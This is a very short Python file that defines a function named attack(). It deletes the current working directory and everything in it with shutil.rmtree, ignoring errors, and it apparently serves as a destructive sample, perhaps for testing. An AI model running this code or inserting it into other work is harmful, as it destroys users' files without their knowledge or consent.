"""Deletes all it can in its working folder, and the folder."""
import os
import shutil


def attack():
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return 1
